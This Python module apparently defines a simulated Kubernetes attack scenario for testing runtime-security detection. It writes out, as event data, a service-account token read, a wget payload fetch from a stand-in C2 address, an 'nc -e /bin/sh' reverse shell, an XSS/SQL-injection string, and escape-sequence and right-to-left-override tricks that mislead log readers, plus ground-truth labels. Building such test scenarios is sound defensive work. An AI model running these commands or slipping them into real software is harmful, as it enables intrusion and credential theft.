"""Hostile strings: with a stolen kubeconfig the attacker ``kubectl exec``s into an x-wing pod
and works with names and arguments built to fool whoever reads the evidence — terminal escapes
that clear the screen, a carriage return that hides the rest of a line, a right-to-left override
that turns ``hs.gnp`` into ``png.sh``, HTML and SQL quotes — then starts a payload with such a
name that opens a shell back to its C2 with ``nc -e``.

Look-alikes: the x-wing and tie fighter pods run their patrol loops with ordinary ``curl``s, and
an HTTP client in the cluster sends URLs with percent-encoded quotes."""

from __future__ import annotations

from pathlib import Path

from .. import falco as fc
from . import Scenario
from .kit import (
    MAY_READ,
    MS,
    NS,
    command,
    connect_out,
    exec_into,
    file_hook,
    finish,
    pod_ref,
    run,
    world,
)
from .truth import Endpoint, Truth

NAME = "hostile-strings"
DESCRIPTION = ("kubectl exec into an x-wing pod with a stolen kubeconfig; commands and a payload "
               "named with terminal escapes, a carriage return, a right-to-left override, HTML and "
               "SQL quotes; the payload runs nc -e /bin/sh back to its C2.")
C2 = ("192.0.2.99", 4444)
PAYLOAD = "/tmp/.\u202ehs.gnp"  # shows as '/tmp/.png.sh' in a bidi-aware viewer


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=20)
    rng = w.rng
    sim = w.sim
    pod = sim.cluster.pods_of("xwing")[0]
    t = w.at(8 + rng.random())
    sh = exec_into(w, pod, t, critical=True)
    fc.emit_alert(sim.sink, sh, t + 28 * MS, "Terminal shell in container", tty=34818,
                  critical=True)
    ids = [sh.exec_id]
    tc = t + 5 * NS
    for binary, args in (
        ("/bin/echo", "-e \x1b[2J\x1b[H\x1b[32mall systems nominal\x1b[0m"),
        ("/bin/ls", "-la /opt/flight\r                                  "),
        ("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("/bin/echo", "<img src=x onerror=alert(document.domain)>'); DROP TABLE processes;--"),
    ):
        p = run(w, sh, tc, binary, args, 2, critical=True)
        if binary == "/bin/cat":
            file_hook(w, p, tc + MS, args, MAY_READ, critical=True)
        ids.append(p.exec_id)
        tc += rng.randint(4, 12) * NS
    wget = run(w, sh, tc, "/usr/bin/wget", f"-qO {PAYLOAD} http://{C2[0]}:8080/p",
               exit_=False, critical=True)
    end = connect_out(w, wget, tc + MS, C2[0], 8080, dur_ms=400, critical=True)
    sim.exit_(wget, end + MS, critical=True)
    chmod = run(w, sh, end + 2 * NS, "/bin/chmod", f"+x {PAYLOAD}", 1, critical=True)
    payload = run(w, sh, end + 4 * NS, PAYLOAD, "\x1b]0;patrol\x07", exit_=False, critical=True)
    nc = run(w, payload, payload.start_ns + 5 * MS, "/usr/bin/nc",
             f"-e /bin/sh {C2[0]} {C2[1]}", exit_=False, critical=True)
    fc.emit_alert(sim.sink, nc, nc.start_ns + 100_000,
                  "Netcat Remote Code Execution in Container", critical=True)
    close = connect_out(w, nc, nc.start_ns + 2 * MS, C2[0], C2[1], dur_ms=180_000, critical=True)
    sim.exit_(nc, close + MS, critical=True)
    sim.exit_(payload, close + 2 * MS, critical=True)
    sim.exit_(sh, close + 30 * NS, critical=True)
    ids += [wget.exec_id, chmod.exec_id, payload.exec_id, nc.exec_id]

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(pod), key_command=command(nc), reached=[],
        endpoints=[Endpoint(C2[0], 8080, "download"), Endpoint(C2[0], C2[1], "c2")],
        techniques=["T1609", "T1036", "T1552.007", "T1105", "T1059.004", "T1095"],
        expected_incidents=1, attacker_exec_ids=ids,
        decoys=["patrol loops curl the deathstar every 30 s in every spaceship pod"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=17)
